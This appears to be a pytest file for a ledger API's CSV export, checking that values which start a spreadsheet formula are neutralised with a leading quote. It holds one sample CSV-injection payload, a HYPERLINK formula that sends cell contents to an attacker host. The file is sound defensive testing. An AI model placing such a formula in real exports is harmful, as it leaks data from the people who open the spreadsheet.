"""Exported cells a spreadsheet would run as formulas are neutralised (CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from ledger_api.financier.csv_export import spreadsheet_safe
from tests.conftest import LedgerServer

HOSTILE = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"details")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_starts_a_formula_gets_a_leading_quote(start: str) -> None:
    assert spreadsheet_safe(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"


@pytest.mark.parametrize("value", ["-12.5", "-3", "0.8", "42", 7, None])
def test_numbers_and_blanks_are_written_as_they_are(value: object) -> None:
    assert spreadsheet_safe(value) == ("" if value is None else value)


def test_a_hostile_enterprise_name_reaches_the_bank_as_text(ledger: LedgerServer) -> None:
    enterprise = "88.118.8/ENT-CSV-01"
    registered = ledger.post(
        "/v1/enterprises",
        json={"identifier": enterprise, "name": HOSTILE, "industry": "iron_steel"},
    )
    assert registered.status_code == 201, registered.text
    bank = ledger.post("/v1/principals", json={"name": "bank", "role": "financier"}).json()
    grant = {"grantee": "bank", "purpose": "green loan"}
    assert ledger.post(f"/v1/enterprises/{enterprise}/grants", json=grant).status_code == 201

    page = ledger.get("/v1/portfolio", bank["key"]["token"], params={"format": "csv"})

    (row,) = list(csv.DictReader(io.StringIO(page.text)))
    assert row["name"] == "'" + HOSTILE
    assert row["enterprise"] == enterprise
